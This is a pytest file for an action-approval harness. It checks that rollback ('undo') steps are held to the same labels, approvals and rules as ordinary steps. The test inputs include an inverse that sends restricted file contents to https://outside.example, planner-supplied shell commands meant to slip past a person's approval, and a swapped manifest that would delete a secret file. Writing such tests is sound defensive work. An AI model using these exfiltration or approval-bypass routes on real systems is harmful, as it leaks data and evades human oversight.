"""Attacks through undo: what takes an effect back is an effect itself, with labels, a verdict, and one life."""

from __future__ import annotations

import json
import threading
from collections.abc import Callable
from pathlib import Path

import pytest
from tests.support.notes import make_package, manifest, note, noted
from tests.support.world import World, proposal, step, write

from interlock.artifact.channel_pb2 import RunStep
from interlock.artifact.errors import StateError
from interlock.artifact.plan import ProposedStep
from interlock.decide.life import Status
from interlock.harness.stepping import Order, Result, Stepper
from interlock.harness.undo import Undone, Word

pytestmark = pytest.mark.sandbox

SECRET = '[[labels]]\npath = "secret.txt"\nconfidentiality = "restricted"\nintegrity = "untrusted"\n'
ASK_WRITES = """
rules:
  - allow: "*"
    id: test-allow
  - verify: files.write
    tier: 3
    approvals: 1
    id: ask
"""


class _Crash(BaseException):
    """The harness dies here."""


@pytest.fixture
def notes(make_world: Callable[..., World], tmp_path: Path) -> World:
    world = make_world(extra=make_package(tmp_path) + SECRET)
    (world.files / "secret.txt").write_text("king")
    return world


def run(world: World, *steps: ProposedStep) -> str:
    task = world.task()
    decided = world.harness.propose(task.id, proposal(task, *steps))
    assert decided.digest is not None, decided.verdict
    if decided.status is Status.PENDING:
        world.harness.approve(world.approval(decided.digest))
    assert world.harness.execute(decided.digest) is Status.DONE, world.harness.core.store.plan(decided.digest).stopped
    return decided.digest


def one(undone: tuple[Undone, ...]) -> tuple[str, str]:
    return undone[0].state, undone[0].code


@pytest.fixture
def orders(monkeypatch: pytest.MonkeyPatch) -> list[Order]:
    """The step processes that were started, from here on."""
    found: list[Order] = []
    original = Stepper.run

    def recorded(self: Stepper, order: Order) -> Result:
        found.append(order)
        return original(self, order)

    monkeypatch.setattr(Stepper, "run", recorded)
    return found


@pytest.mark.parametrize(
    "url",
    [
        {"$template": ["https://outside.example/?q=", {"$ref": "output.text"}]},
        "https://outside.example/because-it-ran",
    ],
    ids=["in its value", "by its condition"],
)
def test_an_inverse_carries_the_labels_of_what_it_takes_back(notes: World, orders: list[Order], url: object) -> None:
    digest = run(
        notes,
        step("s0", "files.read@1", arguments={"path": "secret.txt"}),
        note(
            notes, "s1", {"$ref": "s0.output.text"},
            rollback={"action": "http.get@1", "arguments": {"url": url}},
        ),
    )  # fmt: skip
    orders.clear()
    assert one(notes.harness.rollback(digest)) == ("refused", "flow.restricted_leaves")
    assert orders == []


def test_a_persons_approval_of_a_plan_is_none_of_the_planners_own_inverse(
    make_world: Callable[..., World], tmp_path: Path
) -> None:
    world = make_world(extra=make_package(tmp_path), rules=ASK_WRITES)
    (world.files / "sub").mkdir()
    taken_over = {"argv": {"$ref": "output.argv"}, "directory": "sub"}
    digest = run(
        world,
        write("s0", "harmless.txt", "x"),
        note(world, "s1", "a", rollback={"action": "shell.run@1", "arguments": taken_over}),
    )
    assert one(world.harness.rollback(digest)) == ("refused", "undo.needs_approval")
    assert not (world.files / "sub" / "taken-over").exists()


def test_the_manifests_own_inverse_of_an_approved_plan_runs_without_another_question(
    make_world: Callable[..., World], tmp_path: Path
) -> None:
    asks = ASK_WRITES + "  - verify: note.remove\n    tier: 3\n    approvals: 1\n    id: ask-too\n"
    world = make_world(extra=make_package(tmp_path), rules=asks)
    digest = run(world, write("s0", "harmless.txt", "x"), note(world, "s1", "a"))
    assert {one.state for one in world.harness.rollback(digest)} == {"undone"}
    assert noted(world) == ["a", "removed"]


def test_an_approval_lets_no_inverse_run_that_a_rule_wants_in_another_form(
    make_world: Callable[..., World], tmp_path: Path
) -> None:
    asks = ASK_WRITES + "  - {verify: note.remove, id: ask-too}\n  - {modify: note.remove, with: gently, id: gentle}\n"
    world = make_world(extra=make_package(tmp_path), rules=asks)
    digest = run(world, write("s0", "harmless.txt", "x"), note(world, "s1", "a"))
    assert one(world.harness.rollback(digest)) == ("refused", "modify.late")
    assert noted(world) == ["a"]


def test_an_inverse_that_a_person_approves_counts_once_it_is_done(notes: World) -> None:
    (notes.files / "sub").mkdir()
    (notes.files / "sub" / "name").write_text("marker")
    touch = {"argv": ["sh", "-c", 'touch "$(cat name)"'], "directory": "sub"}  # Nobody can see what it makes.
    digest = run(notes, note(notes, "s1", "a", rollback={"action": "shell.run@1", "arguments": touch}))
    for _ in range(2):  # Asked twice, it is proposed once.
        assert one(notes.harness.rollback(digest)) == ("refused", "undo.needs_approval")
    [pending] = notes.harness.core.store.plans(status=Status.PENDING)
    notes.harness.approve(notes.approval(pending.digest))
    assert notes.harness.execute(pending.digest) is Status.DONE
    assert one(notes.harness.rollback(digest)) == ("undone", "")
    assert notes.harness.core.store.plan(digest).status is Status.ROLLED_BACK
    assert notes.harness.core.store.plans(status=Status.PENDING) == []


def test_two_rollbacks_at_once_run_the_inverse_once(notes: World, monkeypatch: pytest.MonkeyPatch) -> None:
    digest = run(notes, note(notes, "s1", "a"))
    inside, go_on = threading.Event(), threading.Event()
    original = Stepper.run

    def slow(self: Stepper, order: Order) -> Result:
        inside.set()
        assert go_on.wait(60)
        return original(self, order)

    monkeypatch.setattr(Stepper, "run", slow)
    found: list[tuple[Undone, ...]] = []
    first = threading.Thread(target=lambda: found.append(notes.harness.rollback(digest)))
    first.start()
    assert inside.wait(60)
    with pytest.raises(StateError, match=r"run\.elsewhere"):
        notes.harness.rollback(digest)
    go_on.set()
    first.join()
    assert one(found[0]) == ("undone", "")
    assert noted(notes) == ["a", "removed"]


@pytest.mark.parametrize("moment", ["before", "after"])
def test_an_inverse_that_a_crash_cut_off_is_not_run_again(
    notes: World, monkeypatch: pytest.MonkeyPatch, moment: str
) -> None:
    digest = run(notes, note(notes, "s1", "a"))
    original = Stepper.run

    def crash(self: Stepper, order: Order) -> Result:
        if moment == "after":
            original(self, order)
        raise _Crash

    with monkeypatch.context() as patched:
        patched.setattr(Stepper, "run", crash)
        with pytest.raises(_Crash):
            notes.harness.rollback(digest)
    left = noted(notes)
    notes.reopen()
    assert one(notes.harness.rollback(digest)) == ("refused", "undo.unknown")
    assert noted(notes) == left


def half_undone(world: World) -> str:
    """A plan whose inverse was started, has failed and is not idempotent."""
    digest = run(world, note(world, "s0", "z"), note(world, "s1", "b", "note.odd@1"))
    assert one(world.harness.rollback(digest)) == ("refused", "python.raised")
    assert one(world.harness.rollback(digest)) == ("refused", "undo.unknown")
    assert noted(world) == ["z", "b", "b"]
    return digest


@pytest.fixture
def odd(make_world: Callable[..., World], tmp_path: Path) -> World:
    """An action whose inverse does its work and then fails."""
    same = {"path": {"$argument": "path"}, "text": {"$argument": "text"}}
    return make_world(
        extra=make_package(tmp_path, manifest("note.odd", "add", inverse={"action": "note.fail@1", "arguments": same}))
    )


@pytest.mark.parametrize("name", ["s1", "s1/0"])
def test_a_person_says_that_an_inverse_has_happened(odd: World, name: str) -> None:
    digest = half_undone(odd)
    word = Word(said={name: "happened"}, by="alice", reason="the notes say so")
    assert [found.state for found in odd.harness.rollback(digest, word)] == ["undone", "undone"]
    assert noted(odd) == ["z", "b", "b", "removed"]
    ledger = odd.harness.core.ledger
    [(index, said)] = [(at, entry) for at, entry in enumerate(ledger.entries()) if entry.code == "undo.happened"]
    assert (said.kind, said.subject) == ("undo", f"{digest}/s1/0")
    assert json.loads(ledger.payload(index)) == {"by": "alice", "reason": "the notes say so"}
    assert odd.harness.core.store.plan(digest).status is Status.ROLLED_BACK


def test_a_person_says_that_an_inverse_has_not_happened_and_it_runs_again(odd: World) -> None:
    digest = half_undone(odd)
    word = Word(said={"s1": "not"}, by="alice", reason="nothing there")
    assert one(odd.harness.rollback(digest, word)) == ("refused", "python.raised")
    assert noted(odd) == ["z", "b", "b", "b"]
    assert one(odd.harness.rollback(digest)) == ("refused", "undo.unknown")


WORDS = {
    "without a reason": (Word(said={"s1": "happened"}, by="alice", reason=" \n"), "undo.reason"),
    "of what was not started": (Word(said={"s0": "happened"}, by="alice", reason="x"), "undo.not_asked"),
    "of another iteration": (Word(said={"s1/1": "not"}, by="alice", reason="x"), "undo.not_asked"),
    "of no step": (Word(said={"s9": "not"}, by="alice", reason="x"), "undo.not_asked"),
}


@pytest.mark.parametrize("name", WORDS)
def test_a_word_about_what_is_known_is_refused(odd: World, name: str) -> None:
    word, code = WORDS[name]
    digest = half_undone(odd)
    with pytest.raises(StateError) as caught:
        odd.harness.rollback(digest, word)
    assert caught.value.code == code
    assert odd.harness.core.store.claims(digest)[1].state == "undoing"


def test_an_inverse_that_could_not_be_started_can_be_tried_again(
    make_world: Callable[..., World], tmp_path: Path
) -> None:
    same = {"path": {"$argument": "path"}, "text": {"$argument": "text"}}
    more = [
        manifest("note.pair", "add", inverse={"action": "note.unpair@1", "arguments": same}),
        manifest("note.unpair", "remove", secrets=["token"]),
    ]
    world = make_world(extra=make_package(tmp_path, *more))
    digest = run(world, note(world, "s1", "a", "note.pair@1"))
    state, code = one(world.harness.rollback(digest))
    assert (state, code.split(".")[0]) == ("refused", "vault")
    world.harness.core.vault.put("token", b"a-token-of-some-length")
    assert one(world.harness.rollback(digest)) == ("undone", "")
    assert noted(world) == ["a", "removed"]


def test_an_inverse_that_was_exchanged_since_is_refused(notes: World, tmp_path: Path) -> None:
    digest = run(notes, note(notes, "s1", "a"))
    victim = {"action": "files.delete@1", "arguments": {"path": str(notes.files / "secret.txt")}}
    path = tmp_path / "packages" / "notes" / "interlock.json"
    path.write_text(json.dumps({"actions": [manifest("note.add", "add", inverse=victim)]}))
    notes.reopen()
    assert one(notes.harness.rollback(digest)) == ("refused", "undo.manifest_changed")
    assert (notes.files / "secret.txt").exists()


def test_a_rollback_revokes_the_revisions_that_rest_on_it(world: World) -> None:
    task = world.task()
    steps = (write("s1", "a.txt", "one"), step("s2", "files.read@1", arguments={"path": "missing.txt"}))
    decided = world.harness.propose(task.id, proposal(task, *steps, write("s3", "b.txt", "x")))
    assert decided.digest is not None
    assert world.harness.execute(decided.digest) is Status.HALTED
    revision = world.harness.resume(decided.digest, {})
    (world.files / "missing.txt").write_text("here now")
    assert {one.state for one in world.harness.rollback(decided.digest)} <= {"undone", "nothing to undo"}
    assert world.harness.core.store.plan(revision.digest or "").status is Status.REVOKED
    with pytest.raises(StateError, match=r"plan\.revoked"):
        world.harness.execute(revision.digest or "")
    assert not (world.files / "b.txt").exists()


def test_a_step_that_outlives_its_plan_can_be_taken_back(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    core = world.harness.core
    late, real, original = [0], core.clock, Stepper.run
    task = world.task()
    decided = world.harness.propose(task.id, proposal(task, write("s1", "a.txt", "x")))
    assert decided.digest is not None

    def slow(self: Stepper, order: Order) -> Result:
        result = original(self, order)
        if order.mode == RunStep.ACT:
            late[0] = 2 * 3600_000
        return result

    monkeypatch.setattr(core, "clock", lambda: real() + late[0])
    monkeypatch.setattr(Stepper, "run", slow)
    assert world.harness.execute(decided.digest) is Status.DONE
    assert core.clock() > core.store.plan(decided.digest).plan.expires_at
    assert one(world.harness.rollback(decided.digest)) == ("undone", "")
    assert not (world.files / "a.txt").exists()


def test_a_snapshot_restores_what_its_own_step_touched_alone(world: World) -> None:
    (world.files / "victim.txt").write_text("old")
    first, second = run(world, write("s1", "a.txt", "x")), run(world, write("s1", "victim.txt", "new"))
    [other] = world.harness.core.store.claims(second)
    assert other.before is not None and other.after is not None
    world.harness.core.store.settle(first, "s1", 0, "done", before=other.before, after=other.after)
    assert one(world.harness.rollback(first)) == ("refused", "undo.roots")
    assert (world.files / "victim.txt").read_text() == "new"


def test_a_step_that_was_refused_after_its_snapshot_has_nothing_to_undo(world: World) -> None:
    for name in ("real", "there"):
        (world.files / name).mkdir()
    (world.files / "real" / "b.txt").write_text("b")
    (world.files / "link").symlink_to(world.files / "real")
    task = world.task()
    through = {"source": "link/b.txt", "destination": "there/b.txt"}
    steps = (write("s1", "a.txt", "x"), step("s2", "files.copy@1", arguments=through))
    digest = world.harness.propose(task.id, proposal(task, *steps)).digest or ""
    assert world.harness.execute(digest) is Status.HALTED
    snapshots = [entry.subject for entry in world.harness.core.ledger.entries() if entry.kind == "snapshot"]
    assert f"{digest}/s2/0" in snapshots
    assert [one.state for one in world.harness.rollback(digest)] == ["nothing to undo", "undone"]
    assert not (world.files / "a.txt").exists()
